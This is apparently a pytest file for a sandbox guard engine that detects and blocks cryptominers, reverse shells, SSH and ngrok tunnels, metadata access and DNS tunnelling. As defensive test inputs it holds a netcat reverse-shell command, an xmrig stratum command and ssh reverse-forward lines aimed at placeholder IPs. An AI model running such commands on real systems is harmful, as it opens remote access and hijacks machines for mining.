"""Engine semantics: actions, overrides, profile rules, and the non-text evidence kinds."""

from __future__ import annotations

import pytest

from sandbox.errors import ProfileError
from sandbox.events import ListEmit
from sandbox.guard import (
    ACTIONS,
    CommandText,
    DnsQuery,
    Engine,
    NetworkAttempt,
    ProcessExec,
    ResourceSample,
    SampleWindow,
    ScanEvent,
    TamperSignal,
    at_least,
    block_message,
    build_engine,
    from_event,
    load_pack,
    parse_rule,
    strongest,
    strongest_action,
)
from sandbox.guard.packs import PACKS, all_rules
from sandbox.jail.profile import GuardSection


def ids(verdicts: list) -> set[str]:
    return {v.rule_id for v in verdicts}


# -- actions --------------------------------------------------------------------------


def test_actions_are_ordered() -> None:
    """record < flag < block < kill, and strongest picks the top one."""
    assert ACTIONS == ("record", "flag", "block", "kill")
    assert strongest_action(["flag", "kill", "block"]) == "kill"
    assert strongest_action([]) == "record"
    assert at_least("block", "flag") and not at_least("flag", "block")


def test_verdicts_sorted_strongest_first() -> None:
    """A command matching several rules lists the strongest verdict first."""
    vs = build_engine().evaluate(CommandText("xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1"))
    assert len(vs) >= 2
    assert strongest(vs) is vs[0]
    assert strongest([]) is None


# -- overrides ------------------------------------------------------------------------


def test_override_by_pack() -> None:
    """[guard.actions] tunnels = "kill" raises every tunnels rule to kill."""
    engine = build_engine(GuardSection(actions={"tunnels": "kill"}))
    vs = engine.evaluate(CommandText("nc -e /bin/sh 203.0.113.10 4444"))
    assert vs and all(v.action == "kill" for v in vs if v.pack == "tunnels")
    assert vs[0].severity == "critical"  # severity follows the new action


def test_override_by_rule_id_beats_pack() -> None:
    """A rule-id override wins over its pack's override."""
    engine = build_engine(GuardSection(actions={"tunnels": "kill", "tunnels.nc_exec": "record"}))
    v = {v.rule_id: v for v in engine.evaluate(CommandText("nc -e /bin/sh 203.0.113.10 4444"))}
    assert v["tunnels.nc_exec"].action == "record"
    assert v["tunnels.nc_exec"].severity == "info"


def test_unknown_override_key_rejected() -> None:
    """A typo in [guard.actions] is an error naming the key."""
    with pytest.raises(ProfileError, match="tunels"):
        build_engine(GuardSection(actions={"tunels": "kill"}))


def test_bad_override_action_rejected() -> None:
    with pytest.raises(ProfileError, match="explode"):
        build_engine(GuardSection(actions={"mining": "explode"}))


def test_unknown_pack_rejected() -> None:
    with pytest.raises(ProfileError, match="nosuchpack"):
        build_engine(GuardSection(packs=["nosuchpack"]))


def test_packs_are_chosen() -> None:
    """Only the chosen packs run."""
    engine = build_engine(GuardSection(packs=["mining"]))
    assert {r.pack for r in engine.rules} == {"mining"}
    assert engine.evaluate(CommandText("nc -e /bin/sh 203.0.113.10 4444")) == []


def test_strict_profile_guard_section_builds() -> None:
    """The shipped strict profile's guard section is valid."""
    from sandbox.jail.profile import load

    engine = build_engine(load("strict").guard)
    v = engine.evaluate(CommandText("ssh -R 80:127.0.0.1:80 u@203.0.113.20"))
    assert v[0].action == "kill"


# -- profile rules --------------------------------------------------------------------


def test_profile_rule_added_and_overridable() -> None:
    """A profile rule written in TOML terms runs, and its pack can be overridden."""
    section = GuardSection(
        packs=[],
        rules=[{"id": "custom.no_curl", "description": "no curl here", "action": "flag",
                "command": [r"\bcurl\b"], "attack": ["T1105"], "source": "team policy"}],
        actions={"custom": "block"},
    )
    vs = build_engine(section).evaluate(CommandText("curl -s http://203.0.113.5/"))
    assert [(v.rule_id, v.action, v.source) for v in vs] == [("custom.no_curl", "block", "team policy")]


@pytest.mark.parametrize(
    ("rule", "needle"),
    [
        ({"id": "x.a", "description": "d", "action": "flag", "command": ["a"], "colour": "red"}, "colour"),
        ({"id": "x.a", "description": "d", "action": "flag", "network": {"prot": ["ssh"]}}, "prot"),
        ({"id": "x.a", "description": "d", "action": "flag", "process": {"exe": ["a"], "args": ["b"]}}, "args"),
        ({"id": "x.a", "description": "d", "action": "nuke", "command": ["a"]}, "nuke"),
        ({"id": "x.a", "description": "d", "action": "flag"}, "at least one matcher"),
        ({"id": "x.a", "description": "d", "action": "flag", "command": ["("]}, "invalid regex"),
        ({"description": "d", "action": "flag", "command": ["a"]}, "'id'"),
        ({"id": "x.a", "description": "d", "action": "flag", "network": {"port": [70000]}}, "port"),
        ({"id": "x.a", "description": "d", "action": "flag", "network": {"dst": ["nope"]}}, "nope"),
        ({"id": "x.a", "description": "d", "action": "flag", "severity": "dire", "command": ["a"]}, "dire"),
        ({"id": "x.a", "description": "d", "action": "flag", "sample": {"cpu_percent": "hot"}}, "number"),
    ],
)
def test_profile_rule_validation(rule: dict, needle: str) -> None:
    """Bad profile rules raise ProfileError naming the offending key or value."""
    with pytest.raises(ProfileError, match=needle):
        build_engine(GuardSection(rules=[rule]))


def test_profile_rule_cannot_shadow_builtin_id() -> None:
    rule = {"id": "tunnels.nc_exec", "description": "d", "action": "record", "command": ["x"]}
    with pytest.raises(ProfileError, match="already taken"):
        build_engine(GuardSection(rules=[rule]))


def test_engine_rejects_duplicate_ids() -> None:
    rule = parse_rule({"id": "a.b", "description": "d", "action": "flag", "command": ["x"]})
    with pytest.raises(ValueError, match="duplicate"):
        Engine([rule, rule])


# -- built-in pack data ---------------------------------------------------------------


def test_every_builtin_rule_is_cited() -> None:
    """Every rule names a public source and valid ATT&CK ids, and belongs to its pack."""
    import re

    for rule in all_rules():
        assert rule.source, rule.id
        assert rule.attack, rule.id
        assert all(re.fullmatch(r"T\d{4}(?:\.\d{3})?", t) for t in rule.attack), rule.id
        assert rule.id.startswith(rule.pack + ".")
    for name in PACKS:
        assert len(load_pack(name)) >= 5, name


# -- other evidence kinds ---------------------------------------------------------------


def test_network_stratum_is_killed() -> None:
    """Stratum seen by the gateway ends the session, whatever the binary was called."""
    ev = NetworkAttempt(dst_ip="203.0.113.7", dst_port=443, protocol="mining", verdict="deny")
    top = strongest(build_engine().evaluate(ev))
    assert top is not None and top.rule_id == "mining.stratum_protocol" and top.action == "kill"


def test_network_denied_ssh_and_tunnel_services() -> None:
    engine = build_engine()
    ssh = engine.evaluate(NetworkAttempt("203.0.113.20", 22, protocol="ssh", verdict="deny"))
    assert "tunnels.ssh_denied" in ids(ssh)
    allowed = engine.evaluate(NetworkAttempt("140.82.112.3", 22, protocol="ssh",
                                             name="github.com", verdict="allow"))
    assert allowed == []
    ngrok = engine.evaluate(NetworkAttempt("203.0.113.9", 443, protocol="tls",
                                           name="abc.ngrok-free.app", verdict="deny"))
    assert "tunnels.tunnel_services" in ids(ngrok)


def test_network_metadata_pool_and_ports() -> None:
    engine = build_engine()
    assert "secrets.metadata_network" in ids(engine.evaluate(NetworkAttempt("169.254.169.254", 80, "http")))
    assert "secrets.metadata_name" in ids(
        engine.evaluate(NetworkAttempt("203.0.113.254", 80, "http", name="metadata.google.internal")))
    assert "mining.pool_network" in ids(
        engine.evaluate(NetworkAttempt("203.0.113.7", 443, "tls", name="xmr.nanopool.org")))
    assert "mining.pool_ports" in ids(engine.evaluate(NetworkAttempt("203.0.113.7", 3333, "unknown")))
    assert engine.evaluate(NetworkAttempt("151.101.0.223", 443, "tls", name="pypi.org",
                                          verdict="allow")) == []


def test_scan_and_dns_evidence() -> None:
    engine = build_engine()
    assert "recon.gateway_scan" in ids(engine.evaluate(ScanEvent(40, (22, 80), 5.0)))
    assert "tunnels.dns_tunnel" in ids(engine.evaluate(DnsQuery("a" * 60 + ".x.test", verdict="tunnel")))
    assert "mining.pool_network" in ids(engine.evaluate(DnsQuery("pool.supportxmr.com.", "A")))
    assert engine.evaluate(DnsQuery("pool.ntp.org", "A", "allow")) == []


def test_sample_thresholds_need_a_window() -> None:
    """Saturation flags only when sustained; a short spike is nothing."""
    engine = build_engine()
    assert engine.evaluate(ResourceSample(cpu_percent=100, window_s=10)) == []
    vs = engine.evaluate(ResourceSample(cpu_percent=99, window_s=600))
    assert [(v.rule_id, v.action) for v in vs] == [("mining.cpu_saturation", "flag")]
    gpu = engine.evaluate(ResourceSample(gpu_util=99, window_s=400, source="gpu.sample"))
    assert ids(gpu) == {"mining.gpu_saturation"}
    assert ids(engine.evaluate(ResourceSample(source="gpu.unauthorized"))) == {"mining.gpu_unauthorized"}


def test_sample_window_averages() -> None:
    w = SampleWindow(span_s=300)
    out = None
    for t in range(0, 400, 10):
        out = w.add(float(t), ResourceSample(cpu_percent=100.0))
    assert out is not None and out.window_s >= 300 and out.cpu_percent == 100.0
    assert "mining.cpu_saturation" in ids(build_engine().evaluate(out))


def test_tamper_signals() -> None:
    engine = build_engine()
    forged = engine.evaluate(TamperSignal("marker_forged", {"marker": "D"}))
    assert [(v.rule_id, v.severity) for v in forged] == [("tamper.marker_forged", "alert")]
    assert ids(engine.evaluate(TamperSignal("marker_missing"))) == {"tamper.marker_missing"}


def test_process_evidence_by_name_and_argv() -> None:
    engine = build_engine()
    xmrig = engine.evaluate(ProcessExec(("/opt/xmrig",), exe="/opt/xmrig"))
    assert strongest(xmrig) is not None and strongest(xmrig).action == "kill"  # type: ignore[union-attr]
    ssh = engine.evaluate(ProcessExec(("ssh", "-NR", "80:127.0.0.1:80", "u@203.0.113.20"), exe="/usr/bin/ssh"))
    assert "tunnels.ssh_forward" in ids(ssh)
    assert engine.evaluate(ProcessExec(("ssh", "-V"), exe="/usr/bin/ssh")) == []
    assert engine.evaluate(ProcessExec(("/usr/bin/env", "python3", "x.py"), exe="/usr/bin/env")) == []



class _Counting:
    """A rule that counts how often the engine asks it to match."""

    def __init__(self, rule: object, calls: list[int]) -> None:
        self._rule, self._calls = rule, calls

    def match(self, *args: object) -> object:
        self._calls[0] += 1
        return self._rule.match(*args)  # type: ignore[attr-defined]

    def __getattr__(self, name: str) -> object:
        return getattr(self._rule, name)


@pytest.mark.parametrize("evidence", [
    ProcessExec(("/usr/bin/true",), exe="/usr/bin/true", comm="true"),
    CommandText("ls -la /tmp"),
], ids=["exec", "text"])
def test_a_quiet_exec_or_text_is_judged_once(evidence: object) -> None:
    """An exec loop repeats the same argv: the second quiet one is a memo look, not a
    match against every rule (the process memo was written and never read once)."""
    engine = build_engine()
    calls = [0]
    engine.rules = tuple(_Counting(r, calls) for r in engine.rules)  # type: ignore[misc]
    assert engine.evaluate(evidence) == []  # type: ignore[arg-type]
    first = calls[0]
    assert first >= len(engine.rules)
    assert engine.evaluate(evidence) == []  # type: ignore[arg-type]
    assert calls[0] == first
    # Anything rules look at differs: judged again (and a loud one always is).
    loud = ProcessExec(("/opt/xmrig",), exe="/opt/xmrig")
    assert engine.evaluate(loud) and engine.evaluate(loud)
    assert calls[0] >= first + 2 * len(engine.rules)

# -- events in and out ----------------------------------------------------------------


def test_from_event_round_trip() -> None:
    """Stored events become evidence; the guard's own events never do."""
    assert from_event({"kind": "net.attempt", "detail": {"dst_ip": "203.0.113.7", "dst_port": 3333,
                                                         "protocol": "mining", "verdict": "deny"}}) \
        == NetworkAttempt("203.0.113.7", 3333, "mining", verdict="deny")
    assert from_event({"kind": "proc.exec", "detail": '{"argv": ["nc", "-e", "sh"], "exe": "/bin/nc", "pid": 5}'}) \
        == ProcessExec(("nc", "-e", "sh"), exe="/bin/nc", pid=5, comm="nc")
    assert from_event({"kind": "dns.tunnel", "detail": {"name": "x.test", "reason": "entropy"}}) \
        == DnsQuery("x.test", verdict="tunnel", reason="entropy")
    assert isinstance(from_event({"kind": "net.scan", "detail": {"distinct_targets": 9, "ports": [22]}}), ScanEvent)
    assert from_event({"kind": "gpu.unauthorized", "detail": {"util": 50}}) == \
        ResourceSample(gpu_util=50, source="gpu.unauthorized")
    assert from_event({"kind": "shell.marker_forged", "detail": {}}) == TamperSignal("marker_forged", {})
    assert from_event({"kind": "guard.verdict", "detail": {"rule": "x"}}) is None
    assert from_event({"kind": "honeytoken.touched", "detail": {}}) is None
    assert from_event({"kind": "net.attempt", "detail": "not json"}) is None


def test_verdict_emits_event() -> None:
    """A verdict becomes a guard.verdict event with rule, pack, action, evidence, attack."""
    emit = ListEmit()
    engine = build_engine()
    for v in engine.evaluate_event({"kind": "net.attempt", "detail": {
            "dst_ip": "203.0.113.7", "dst_port": 3333, "protocol": "mining"}}):
        v.emit(emit)
    ev = emit.of_kind("guard.verdict")[0]
    assert ev["rule"] == "mining.stratum_protocol" and ev["action"] == "kill"
    assert ev["severity"] == "critical"
    d = ev["detail"]
    assert {"rule", "pack", "action", "evidence", "attack", "source", "message"} <= set(d)
    assert d["evidence"]["type"] == "network" and d["evidence"]["protocol"] == "mining"
    assert "T1496" in d["attack"]


def test_block_message_tells_what_to_do() -> None:
    vs = build_engine().check_command("nc -e /bin/sh 203.0.113.10 4444")
    msg = block_message(vs)
    assert "tunnels.nc_exec" in msg and "[guard.actions]" in msg
    assert block_message([]) == ""
